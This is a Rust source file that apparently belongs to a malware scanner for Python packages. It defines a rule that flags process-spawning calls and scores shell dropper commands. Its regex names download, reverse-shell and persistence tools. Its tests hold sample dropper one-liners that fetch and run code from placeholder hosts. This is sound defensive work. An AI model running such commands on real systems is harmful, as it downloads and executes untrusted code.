//! WH120 process-spawn: starting another program.

use std::sync::LazyLock;

use regex::Regex;
use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH120",
    name: "process-spawn",
    description: "Starts a process (subprocess, os.system, os.popen, os.exec*, pty.spawn, ...)",
    rationale: "Droppers hand over to a shell to download and run a second stage. Legitimate code \
                also calls git or compilers, so a constant command weighs little; shell download \
                one-liners, interpreters fed with code, and commands built at run time weigh more, \
                especially at install or import time.",
    category: Category::Sink,
};

/// Calls that start a process.
pub fn is_spawn(qualname: &str) -> bool {
    let q = qualname;
    matches!(
        q,
        "os.system" | "os.popen" | "os.popen2" | "os.popen3" | "os.startfile" | "os.posix_spawn"
            | "os.posix_spawnp" | "pty.spawn" | "commands.getoutput" | "commands.getstatusoutput"
            | "asyncio.create_subprocess_shell" | "asyncio.create_subprocess_exec" | "popen2.popen2"
    ) || (q.starts_with("subprocess.")
        && matches!(
            q.trim_start_matches("subprocess."),
            "Popen" | "run" | "call" | "check_call" | "check_output" | "getoutput" | "getstatusoutput"
        ))
        || (q.starts_with("os.exec") && q.len() <= 10)
        || (q.starts_with("os.spawn") && q.len() <= 11)
}

/// Shell fragments that download, decode, hide or persist: the vocabulary of droppers.
static DANGEROUS_COMMAND: LazyLock<Regex> = crate::static_regex!(
    r"(?ix)
    \b(curl|wget|powershell|pwsh|invoke-webrequest|iwr|invoke-expression|iex|downloadstring|downloadfile
      |certutil|bitsadmin|mshta|rundll32|regsvr32|ncat|netcat|schtasks|crontab|nohup|osascript|wscript|cscript)\b
    | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode)
    | \bpython[0-9.]*(\.exe)?\s+-c\b | \bstart\s+/b\b | \.(exe|vbs|bat|ps1|scr|hta)\b
    | -encodedcommand | -enc\s | \bchmod\s+[+0-7]*x | \bchmod\s+7[0-7][0-7]\b | \bdisown\b | \bsetsid\b
    "
);

/// True when a command line contains dropper vocabulary.
pub fn is_dangerous_command(command: &str) -> bool {
    DANGEROUS_COMMAND.is_match(command)
}

/// Process-spawning calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !is_spawn(qualname) {
        return;
    }
    let context = checker.context();
    let command = call
        .arguments
        .args
        .first()
        .and_then(|arg| super::command_text(checker, arg))
        .or_else(|| super::keyword(call, "args").and_then(|arg| super::command_text(checker, arg)));
    let shown = super::argument_text(checker, call);
    let (severity, tags, message) = match &command {
        Some(command) if is_dangerous_command(command) => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.9,
                ExecContext::Runtime => 0.55,
                ExecContext::TestOrDocs => 0.25,
            },
            vec!["spawn", "shell-dropper"],
            format!("{qualname} runs `{}`, a download/decode/persistence command", crate::text::shorten(command, 160)),
        ),
        Some(command) if command.contains("pip install") || command.contains("pip3 install") => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.3,
                _ => 0.05,
            },
            vec!["spawn", "pip-install"],
            format!("{qualname} installs packages with `{}`", crate::text::shorten(command, 160)),
        ),
        Some(command) => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.06,
                _ => 0.02,
            },
            vec!["spawn", "spawn-constant"],
            format!("{qualname} runs `{}`", crate::text::shorten(command, 160)),
        ),
        None => (
            match context {
                ExecContext::Install => 0.3,
                ExecContext::Import => 0.25,
                ExecContext::Runtime => 0.03,
                ExecContext::TestOrDocs => 0.02,
            },
            vec!["spawn", "spawn-dynamic"],
            format!("{qualname} runs a command built at run time: {shown}"),
        ),
    };
    checker.report(&RULE, call.range(), message, severity, tags);
    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Process);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::max_severity;

    #[test]
    fn dropper_commands_are_severe() {
        assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
        assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
        assert!(!is_dangerous_command("git describe --tags"));
        assert!(!is_dangerous_command("gcc -o foo foo.c"));
        let code = "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
        let code = "from subprocess import Popen as P\nP(['powershell', '-enc', 'AAAA'])\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
    }

    #[test]
    fn build_tools_weigh_little() {
        let code = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
        assert!(max_severity("p/setup.py", code, "WH120") < 0.1);
        let code = "import subprocess\ndef f(args):\n    subprocess.run(args)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH120") < 0.1);
    }
}
